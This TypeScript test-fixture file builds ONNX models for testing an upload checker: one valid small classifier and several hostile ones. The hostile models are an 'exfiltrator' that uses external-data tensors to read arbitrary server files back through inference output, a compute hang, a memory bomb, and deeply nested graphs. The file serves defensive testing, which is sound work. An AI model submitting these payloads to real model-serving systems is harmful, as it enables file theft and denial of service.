/**
 * Hand-built ONNX models for tests of uploads: a small valid classifier, and the hostile shapes an
 * attacker would send (external data in every place a tensor can sit, unknown operator domains,
 * nesting bombs, hangs and memory bombs). Built with the official message definitions.
 */
import onnxProto from 'onnx-proto';
import type { onnx as OnnxTypes } from 'onnx-proto';

const { onnx } = onnxProto;

export type Model = OnnxTypes.IModelProto;
export type Graph = OnnxTypes.IGraphProto;
export type Node = OnnxTypes.INodeProto;
export type Tensor = OnnxTypes.ITensorProto;

/** Attribute types (onnx.AttributeProto.AttributeType). */
export const A = { FLOAT: 1, INT: 2, STRING: 3, TENSOR: 4, GRAPH: 5, INTS: 7, TENSORS: 9, GRAPHS: 10, SPARSE_TENSOR: 11 } as const;

/** A tensor value's type: `dims` strings are symbolic. */
export function vi(name: string, dims: (number | string)[], elemType = 1): OnnxTypes.IValueInfoProto {
  return { name, type: { tensorType: { elemType, shape: { dim: dims.map((d) => (typeof d === 'string' ? { dimParam: d } : { dimValue: d })) } } } };
}

/** A float32 tensor with inline little-endian data. */
export function floats(name: string, dims: number[], values: number[]): Tensor {
  const a = Float32Array.from(values);
  return { name, dims, dataType: 1, rawData: new Uint8Array(a.buffer) };
}

/** An int64 tensor with inline data. */
export function int64s(name: string, dims: number[], values: number[]): Tensor {
  return { name, dims, dataType: 7, int64Data: values };
}

/** A float32 tensor whose data lives in an external file: what ONNX Runtime would read from `location`. */
export function external(name: string, dims: number[], location: string, opts: { onlyEntries?: boolean; onlyLocation?: boolean } = {}): Tensor {
  const n = dims.reduce((a, b) => a * b, 1);
  return {
    name,
    dims,
    dataType: 1,
    ...(opts.onlyEntries ? {} : { dataLocation: onnx.TensorProto.DataLocation.EXTERNAL }),
    ...(opts.onlyLocation ? {} : { externalData: [{ key: 'location', value: location }, { key: 'offset', value: '0' }, { key: 'length', value: String(4 * n) }] }),
  };
}

export function node(opType: string, input: string[], output: string[], attribute: OnnxTypes.IAttributeProto[] = [], domain = '', name = `${opType}_${output[0] ?? ''}`): Node {
  return { opType, input, output, attribute, domain, name };
}

/** A model around `graph`, opset 17 (+ ai.onnx.ml 3 and any extra imports). */
export function model(graph: Graph, extra: Partial<Model> = {}): Model {
  return { irVersion: 8, opsetImport: [{ domain: '', version: 17 }, { domain: 'ai.onnx.ml', version: 3 }], producerName: 'test', graph, ...extra };
}

export function encode(m: Model): Uint8Array {
  return onnx.ModelProto.encode(onnx.ModelProto.create(m)).finish();
}

export function decode(bytes: Uint8Array): OnnxTypes.ModelProto {
  return onnx.ModelProto.decode(bytes);
}

/** Weights of `classifier`: 3 features → 2 classes. */
export const W = [0.5, -0.25, 1, 0.75, -1, 0.125];
export const B = [0.1, -0.1];

/**
 * A valid classifier as other tools write them: input `x` FP32 [N, 3] → Gemm → Softmax →
 * `probs` [N, 2]; for 3 features and 2 classes.
 */
export function classifierGraph(): Graph {
  return {
    name: 'tiny',
    node: [node('Gemm', ['x', 'W', 'B'], ['logits']), node('Softmax', ['logits'], ['probs'], [{ name: 'axis', type: A.INT, i: -1 }])],
    initializer: [floats('W', [3, 2], W), floats('B', [2], B)],
    input: [vi('x', ['N', 3])],
    output: [vi('probs', ['N', 2])],
  };
}

export const classifier = (): Uint8Array => encode(model(classifierGraph()));

/** The classifier's probabilities for one row (softmax of x·W + B). */
export function classifierProbs(x: number[]): number[] {
  const z = [0, 1].map((j) => x.reduce((s, v, i) => s + v * W[i * 2 + j]!, B[j]!));
  const m = Math.max(...z);
  const e = z.map((v) => Math.exp(v - m));
  return e.map((v) => v / (e[0]! + e[1]!));
}

/**
 * The attack: a classifier (input `x` [N, 1], 4 classes) whose output adds the first 16 bytes of
 * the file at `location`, read by ONNX Runtime as 4 floats, to x·0. Where the external tensor
 * sits: `if` (an initializer of an If branch: ONNX Runtime 1.30 reads it with every optimization
 * on, and the bytes come back from /v2 infer), `constant` (a Constant node's value) or
 * `initializer` (a graph initializer); for those two its optimizer fails instead, with a message
 * naming its source paths.
 */
export function exfiltrator(location: string, where: 'constant' | 'initializer' | 'if' = 'constant'): Uint8Array {
  const nodes: Node[] = [node('Mul', ['x', 'zero'], ['x0'])];
  const initializer: Tensor[] = [floats('zero', [], [0])];
  if (where === 'constant') nodes.push(node('Constant', [], ['secret'], [{ name: 'value', type: A.TENSOR, t: external('secret_value', [1, 4], location) }]));
  else if (where === 'initializer') initializer.push(external('secret', [1, 4], location));
  else {
    const branch = (n: string): Graph => ({ name: n, node: [node('Identity', [`${n}_s`], [`${n}_o`])], initializer: [external(`${n}_s`, [1, 4], location)], input: [], output: [vi(`${n}_o`, [1, 4])] });
    initializer.push({ name: 'cond', dims: [], dataType: 9, rawData: new Uint8Array([1]) });
    nodes.push(node('If', ['cond'], ['secret'], [{ name: 'then_branch', type: A.GRAPH, g: branch('then') }, { name: 'else_branch', type: A.GRAPH, g: branch('else') }]));
  }
  nodes.push(node('Add', ['x0', 'secret'], ['y']));
  return encode(model({ name: 'exfil', node: nodes, initializer, input: [vi('x', ['N', 1])], output: [vi('y', ['N', 4])] }));
}

/**
 * A graph that takes far longer than any check allows, without a loop (uploaded models may not
 * loop) and in little memory: the input through 2,000 multiplications by the same 512 × 512
 * matrix, work that depends on the input and so is done when it runs: a few seconds for one row's
 * worth of batches, minutes for the check's 1,024 rows.
 */
export function hanging(): Uint8Array {
  const width = 512;
  const layers = 2000;
  const nodes: Node[] = [node('MatMul', ['x', 'In'], ['h0'])];
  for (let i = 1; i <= layers; i++) nodes.push(node('MatMul', [`h${i - 1}`, 'M'], [`h${i}`]));
  nodes.push(node('MatMul', [`h${layers}`, 'Out'], ['y']));
  const small = (n: number) => Array.from({ length: n }, (_, i) => ((i % 7) - 3) / (3 * width));
  return encode(
    model({
      name: 'hang',
      node: nodes,
      initializer: [floats('In', [3, width], small(3 * width)), floats('M', [width, width], small(width * width)), floats('Out', [width, 2], small(width * 2))],
      input: [vi('x', ['N', 3])],
      output: [vi('y', ['N', 2])],
    }),
  );
}

/**
 * A model that takes about `mib` MiB when ONNX Runtime loads it (a constant-shaped ConstantOfShape
 * of that many floats, summed: folded at load time) and answers 2 columns: a memory bomb in a
 * small file. (Sizes computed from the input's values are refused by the graph check.)
 */
export function memoryHog(mib: number): Uint8Array {
  const k = Math.floor((mib * 1024 * 1024) / 4);
  return encode(
    model({
      name: 'hog',
      node: [
        node('ConstantOfShape', ['bigShape'], ['big'], [{ name: 'value', type: A.TENSOR, t: floats('one', [1], [1]) }]),
        node('ReduceSum', ['big', 'axes'], ['total'], [{ name: 'keepdims', type: A.INT, i: 1 }]),
        node('Gemm', ['x', 'W', 'B'], ['z']),
        node('Mul', ['z', 'total'], ['y']),
      ],
      initializer: [int64s('bigShape', [2], [1, k]), int64s('axes', [1], [1]), floats('W', [3, 2], W), floats('B', [2], B)],
      input: [vi('x', ['N', 3])],
      output: [vi('y', ['N', 2])],
    }),
  );
}

/** `depth` If nodes inside each other's then-branches (else-branches empty passthroughs), as bytes built inside out. */
export function nestedIfs(depth: number): Uint8Array {
  let inner: Graph = { name: 'leaf', node: [node('Identity', ['z'], ['leaf_o'])], output: [vi('leaf_o', ['N', 2])] };
  for (let d = 0; d < depth; d++) {
    const out = `o${d}`;
    const other: Graph = { name: `e${d}`, node: [node('Identity', ['z'], [`e${d}_o`])], output: [vi(`e${d}_o`, ['N', 2])] };
    inner = { name: `g${d}`, node: [node('If', ['cond'], [out], [{ name: 'then_branch', type: A.GRAPH, g: inner }, { name: 'else_branch', type: A.GRAPH, g: other }])], output: [vi(out, ['N', 2])] };
  }
  const top = inner;
  return encode(
    model({
      name: 'nested',
      node: [node('Gemm', ['x', 'W', 'B'], ['z']), ...(top.node ?? [])],
      initializer: [floats('W', [3, 2], W), floats('B', [2], B), { name: 'cond', dims: [], dataType: 9, rawData: new Uint8Array([1]) }],
      input: [vi('x', ['N', 3])],
      output: top.output!,
    }),
  );
}

/** Protobuf wire bytes: a length-delimited field. */
export function field(num: number, payload: Uint8Array): Uint8Array {
  const head = [...varint((num << 3) | 2), ...varint(payload.length)];
  const out = new Uint8Array(head.length + payload.length);
  out.set(head);
  out.set(payload, head.length);
  return out;
}

/** Bytes of a protobuf varint. */
function varint(n: number): number[] {
  const out: number[] = [];
  while (n > 0x7f) {
    out.push((n % 0x80) | 0x80);
    n = Math.floor(n / 0x80);
  }
  out.push(n);
  return out;
}

/**
 * A model whose graph nests `depth` subgraphs (graph → node → attribute → graph …), written
 * directly as wire bytes (in linear time): deeper than any encoder or decoder recursion allows.
 */
export function deepWire(depth: number): Uint8Array {
  // Innermost first: AttributeProto.g = 6, NodeProto.attribute = 5, GraphProto.node = 1, …, ModelProto.graph = 7.
  const tags: number[] = [];
  for (let i = 0; i < depth; i++) tags.push(6, 5, 1);
  tags.push(7);
  const lengths: number[] = [0];
  for (const t of tags) {
    const inner = lengths[lengths.length - 1]!;
    lengths.push(varint((t << 3) | 2).length + varint(inner).length + inner);
  }
  const head = encode({ irVersion: 8, opsetImport: [{ domain: '', version: 17 }] });
  const out = new Uint8Array(head.length + lengths[lengths.length - 1]!);
  out.set(head);
  let p = head.length;
  for (let k = tags.length - 1; k >= 0; k--) {
    for (const byte of [...varint((tags[k]! << 3) | 2), ...varint(lengths[k]!)]) out[p++] = byte;
  }
  return out;
}
